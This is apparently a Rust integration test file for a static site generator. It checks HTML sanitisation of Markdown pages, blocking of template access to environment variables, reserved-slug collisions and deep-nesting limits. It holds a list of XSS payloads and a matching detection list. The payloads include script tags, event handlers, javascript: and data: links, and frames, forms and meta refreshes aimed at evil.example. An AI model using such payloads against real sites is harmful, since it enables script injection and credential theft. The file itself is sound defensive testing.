//! Hardening of what a site's own `content/` and `theme/` can make clinic publish: live script
//! in Markdown pages (sanitised unless `unsafe_html: true`), Tera's `get_env` in a theme
//! template, slugs that claim a file or folder the generator writes itself, and Markdown nested
//! deep enough to amplify a page (and to make the sanitiser quadratic).
//!
//! Every test runs the real binary on a site written into a temporary directory.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::{build, empty_site, list_files, read_output, Run};

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// Each payload with a marker that must not reach the output when it is sanitised.
const PAYLOADS: &str = r#"---
title: Hostile page
---
Some prose stays.

<script>window.xss_script_ran = 1</script>

<p onclick="xss_onclick()">click</p>

<img src="x.png" onerror="xss_onerror()">

<svg onload="xss_svg_onload()"><circle r="1"/></svg>

[a javascript link](javascript:xss_js_link())

<a href="JaVaScRiPt:xss_js_mixed()">mixed case</a>

<a href="data:text/html;base64,eHNzX2RhdGFfbGluaw==">a data link</a>

[markdown data link](data:text/html,xss_md_data)

<iframe src="https://evil.example/xss_iframe"></iframe>

<form action="https://evil.example/xss_form"><input name="pw" type="password"><button>go</button></form>

<base href="https://evil.example/xss_base/">

<object data="https://evil.example/xss_object"></object>

<embed src="https://evil.example/xss_embed">

<meta http-equiv="refresh" content="0;url=https://evil.example/xss_meta">

<style>body { background: url(https://evil.example/xss_style) }</style>

<div style="background:url(https://evil.example/xss_inline_style)">styled</div>

## Heading {#ok"onmouseover="xss_heading_id()}

The end.
"#;

/// What must never be in a sanitised page (the markers, and the tags themselves).
const FORBIDDEN: &[&str] = &[
    "xss_script_ran",
    "xss_onclick",
    "xss_onerror",
    "xss_svg_onload",
    "xss_js_link",
    "xss_js_mixed",
    "javascript:",
    "JaVaScRiPt:",
    "data:text/html",
    "eHNzX2RhdGFfbGluaw",
    "xss_md_data",
    "<iframe",
    "xss_iframe",
    "<form",
    "xss_form",
    "type=\"password\"",
    "<base",
    "xss_base",
    "<object",
    "xss_object",
    "<embed",
    "xss_embed",
    "http-equiv=\"refresh\"",
    "xss_meta",
    "xss_style",
    "xss_inline_style",
];

#[track_caller]
fn assert_clean(html: &str, where_: &str) {
    for bad in FORBIDDEN {
        assert!(
            !html.contains(bad),
            "{bad:?} reached {where_}:\n{}",
            common::between(html, "<article", "</article>")
        );
    }
    // No event handler on any element, and no script URL in any link (the heading's `{#id}`
    // may keep its text, escaped inside the id: it is inert there).
    for attribute in common::attributes(html) {
        let value = attribute.value.trim().to_ascii_lowercase();
        assert!(
            !attribute.name.starts_with("on")
                && !value.starts_with("javascript:")
                && !value.starts_with("data:"),
            "{attribute:?} reached {where_}"
        );
    }
    assert!(html.contains("Some prose stays."), "{html}");
    assert!(html.contains("The end."), "{html}");
}

#[test]
fn a_content_page_with_live_script_is_sanitised_by_clinic_build() {
    let site = empty_site();
    write(&site.root, "content/hostile.md", PAYLOADS);
    let run = build(&site.root, &[]);
    run.expect_code(0);
    let html = read_output(&site.public(), "hostile/index.html");
    assert_clean(&html, "hostile/index.html");
    // The link texts stay, without their targets.
    assert!(html.contains("a javascript link"), "{html}");
}

#[test]
fn unsafe_html_true_keeps_raw_html_as_written() {
    let site = empty_site();
    write(&site.root, "content/hostile.md", PAYLOADS);
    write(&site.root, "clinic.yaml", "unsafe_html: true\n");
    let run = build(&site.root, &[]);
    run.expect_code(0);
    assert!(
        !run.stderr.contains("unsafe_html"),
        "the key is known: {}",
        run.stderr
    );
    let html = read_output(&site.public(), "hostile/index.html");
    assert!(
        html.contains("<script>window.xss_script_ran = 1</script>"),
        "{html}"
    );
    assert!(html.contains("<iframe"), "{html}");
    // `false` is the default, written out.
    write(&site.root, "clinic.yaml", "unsafe_html: false\n");
    build(&site.root, &[]).expect_code(0);
    assert_clean(
        &read_output(&site.public(), "hostile/index.html"),
        "hostile/index.html with unsafe_html: false",
    );
}

#[test]
fn handbook_markup_survives_the_sanitiser() {
    let site = empty_site();
    write(
        &site.root,
        "content/features.md",
        r#"---
title: Features
---
## First heading

| left | centre | right |
|:-----|:------:|------:|
| a    | b      | c     |

- [x] done
- [ ] to do

A note[^n].

[^n]: The note.

<details class="card">
<summary>Question with <code>code</code>?</summary>

The answer.

</details>

```sql
SELECT 1;
```

<abbr title="Structured Query Language">SQL</abbr> and [a link](https://example.org/x "title").
"#,
    );
    build(&site.root, &[]).expect_code(0);
    let html = read_output(&site.public(), "features/index.html");
    for needle in [
        "<h2 id=\"first-heading\">First heading <a class=\"anchor\" href=\"#first-heading\" aria-label=\"Link to this section\">#</a></h2>",
        "<table>",
        "style=\"text-align: center\"",
        "style=\"text-align: right\"",
        "type=\"checkbox\"",
        "checked=\"\"",
        "class=\"footnote-reference\"",
        "class=\"footnote-definition\"",
        "<details class=\"card\">",
        "<summary>Question with <code>code</code>?</summary>",
        "<pre class=\"code\" data-lang=\"sql\" tabindex=\"0\"><code><span class=\"hl-",
        "<abbr title=\"Structured Query Language\">SQL</abbr>",
        "<a href=\"https://example.org/x\" title=\"title\">a link</a>",
    ] {
        assert!(
            html.contains(needle),
            "missing {needle:?}:\n{}",
            common::between(&html, "<article", "</article>")
        );
    }
    // Task-list boxes are still disabled checkboxes, never text inputs.
    assert!(
        !html.contains("<input checked=\"\" type=\"text\""),
        "{html}"
    );
}

// ---------------------------------------------------------------------------------------------
// clinic serve

/// A running `clinic serve`; killed on drop.
struct Serve {
    child: Child,
    addr: String,
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn serve(root: &Path, log: &Path) -> Serve {
    let mut child = Command::new(env!("CARGO_BIN_EXE_clinic"))
        .args(["serve", "--port", "0", "--root"])
        .arg(root)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(std::fs::File::create(log).unwrap())
        .spawn()
        .expect("start clinic serve");
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    let mut serve = Serve {
        child,
        addr: String::new(),
    };
    let line = rx
        .recv_timeout(Duration::from_secs(90))
        .unwrap_or_else(|_| {
            panic!(
                "no URL printed: {}",
                std::fs::read_to_string(log).unwrap_or_default()
            )
        });
    let url = line
        .strip_prefix("Serving http://")
        .unwrap_or_else(|| panic!("unexpected first line {line:?}"));
    serve.addr = url[..url.find('/').unwrap()].to_string();
    serve
}

impl Serve {
    fn get(&self, path: &str) -> String {
        let mut stream = TcpStream::connect(&self.addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(90)))
            .unwrap();
        write!(
            stream,
            "GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            self.addr
        )
        .unwrap();
        let mut response = Vec::new();
        let _ = stream.read_to_end(&mut response);
        String::from_utf8_lossy(&response).into_owned()
    }
}

#[test]
fn a_content_page_with_live_script_is_sanitised_by_clinic_serve() {
    let site = empty_site();
    write(&site.root, "content/hostile.md", PAYLOADS);
    let server = serve(&site.root, &site.tmp.path().join("serve.log"));
    let response = server.get("/hostile/");
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    assert_clean(&response, "the served /hostile/");
}

// ---------------------------------------------------------------------------------------------
// Tera's get_env

#[test]
fn a_theme_template_cannot_print_an_environment_variable() {
    const SECRET: &str = "s3cr3t-ci-token-9f8e7d";
    let site = empty_site();
    write(
        &site.root,
        "theme/templates/partials/footer.html",
        "<footer>\nbuilt by\n{{ get_env(name=\"CI_SECRET\", default=\"none\") }}\n</footer>\n",
    );
    write(
        &site.root,
        "content/page.md",
        "---\ntitle: A page\n---\nText.\n",
    );
    let mut command = common::clinic_command();
    command
        .args(["build", "--root"])
        .arg(&site.root)
        .env("CI_SECRET", SECRET);
    let run = common::run(command);
    assert_ne!(run.code, 0, "the build succeeded: {}", run.stderr);
    assert!(!run.stdout.contains(SECRET) && !run.stderr.contains(SECRET));
    run.expect_stderr("theme/templates/partials/footer.html");
    run.expect_stderr("get_env");
    if site.public().is_dir() {
        for rel in list_files(&site.public()) {
            let bytes = std::fs::read(site.public().join(&rel)).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains(SECRET),
                "the secret was published in {rel}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Reserved slugs

fn errors(run: &Run) -> Vec<serde_json::Value> {
    let report: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("no JSON report ({e}):\n{}\n{}", run.stdout, run.stderr));
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["severity"] == "error")
        .cloned()
        .collect()
}

#[test]
fn a_slug_that_claims_a_generated_file_or_folder_is_a_collision_and_the_rest_builds() {
    let site = empty_site();
    let reserved = [
        ("index-html.md", "index.html"),
        ("not-found.md", "404.html"),
        ("evidence.md", "evidence.json"),
        ("sitemap.md", "sitemap.xml"),
        ("mine.md", "portfolio"),
        ("shields.md", "badges"),
        ("assets.md", "static"),
        ("upper.md", "Portfolio"),
        ("guide/inner.md", "index.html"),
    ];
    for (file, slug) in reserved {
        write(
            &site.root,
            &format!("content/{file}"),
            &format!("---\ntitle: Claims {slug}\nslug: {slug}\n---\nclaimed-by-{slug}-zq7\n"),
        );
    }
    write(&site.root, "content/ok.md", "---\ntitle: Fine\n---\nfine\n");
    write(
        &site.root,
        "content/guide/fine.md",
        "---\ntitle: Fine too\n---\nfine\n",
    );
    let run = build(
        &site.root,
        &["--json", "--base-url", "https://docs.example/"],
    );
    run.expect_code(1);
    let errors = errors(&run);
    for (file, slug) in reserved {
        let shown = format!("content/{file}");
        let found = errors
            .iter()
            .find(|d| d["file"] == shown.as_str())
            .unwrap_or_else(|| panic!("no error names {shown}: {errors:#?}"));
        assert_eq!(found["line"], 3, "the line of `slug:` in {shown}: {found}");
        assert!(found["message"].as_str().unwrap().contains(slug), "{found}");
    }
    assert_eq!(errors.len(), reserved.len(), "{errors:#?}");
    // The rest of the site is built, and no claimed file holds a page.
    let out = site.public();
    assert!(out.join("ok/index.html").is_file());
    assert!(out.join("guide/index.html").is_file());
    let index = read_output(&out, "index.html");
    assert!(index.contains("<html"), "{index}");
    serde_json::from_str::<serde_json::Value>(&read_output(&out, "evidence.json"))
        .expect("evidence.json is still the evidence");
    assert!(read_output(&out, "sitemap.xml").starts_with("<?xml"));
    for rel in list_files(&out) {
        let text = String::from_utf8_lossy(&std::fs::read(out.join(&rel)).unwrap()).into_owned();
        assert!(
            !text.contains("-zq7"),
            "a page with a reserved slug was published as {rel}"
        );
    }
    assert!(!out.join("static/index.html").exists());
    assert!(!out.join("badges/index.html").exists());
}

#[test]
fn a_file_named_like_a_generated_folder_is_a_collision_too() {
    let site = empty_site();
    write(
        &site.root,
        "content/portfolio.md",
        "---\ntitle: My own portfolio\n---\nmine-marker\n",
    );
    let run = build(&site.root, &["--json"]);
    run.expect_code(1);
    let errors = errors(&run);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0]["file"], "content/portfolio.md");
    let portfolio = read_output(&site.public(), "portfolio/index.html");
    assert!(!portfolio.contains("mine-marker"));
}

// ---------------------------------------------------------------------------------------------
// Nesting

/// Builds a site with `content/deep.md` (front matter + `body`) and a normal page; returns the
/// run, the source size, the deep page's output size, and how long the build took.
fn build_deep(body: &str, config: Option<&str>) -> (common::Site, Run, usize, usize, Duration) {
    let site = empty_site();
    let source = format!("---\ntitle: Deep\n---\n{body}");
    write(&site.root, "content/deep.md", &source);
    write(&site.root, "content/ok.md", "---\ntitle: Fine\n---\nfine\n");
    if let Some(config) = config {
        write(&site.root, "clinic.yaml", config);
    }
    let start = Instant::now();
    let run = build(&site.root, &[]);
    let elapsed = start.elapsed();
    let out = std::fs::metadata(site.public().join("deep/index.html"))
        .map(|m| m.len() as usize)
        .unwrap_or(0);
    (site, run, source.len(), out, elapsed)
}

#[test]
fn deeply_nested_content_is_refused_in_bounded_time_with_a_small_output() {
    let bodies = [
        ("blockquotes", format!("{} x\n", ">".repeat(100_000))),
        ("lists", format!("{}x\n", "- ".repeat(50_000))),
        ("raw divs", format!("{}x\n", "<div>".repeat(20_000))),
    ];
    for config in [None, Some("unsafe_html: true\n")] {
        for (what, body) in &bodies {
            let (site, run, source, out, elapsed) = build_deep(body, config);
            let ratio = out as f64 / source as f64;
            assert!(
                ratio < 1.0,
                "{what} ({config:?}): {source} bytes became a {out}-byte page ({ratio:.1}x)"
            );
            assert!(
                elapsed < Duration::from_secs(60),
                "{what} ({config:?}): the build took {elapsed:?}"
            );
            run.expect_code(1).expect_stderr("content/deep.md");
            let html = read_output(&site.public(), "deep/index.html");
            assert!(html.contains("levels deep"), "{what}: {html}");
            assert!(site.public().join("ok/index.html").is_file());
        }
    }
}

#[test]
fn nesting_under_the_limit_renders_as_written() {
    let (site, run, _, _, _) = build_deep(&format!("{} inside\n", ">".repeat(40)), None);
    run.expect_code(0);
    let html = read_output(&site.public(), "deep/index.html");
    assert_eq!(html.matches("<blockquote>").count(), 40);
    assert!(html.contains("inside"));
}
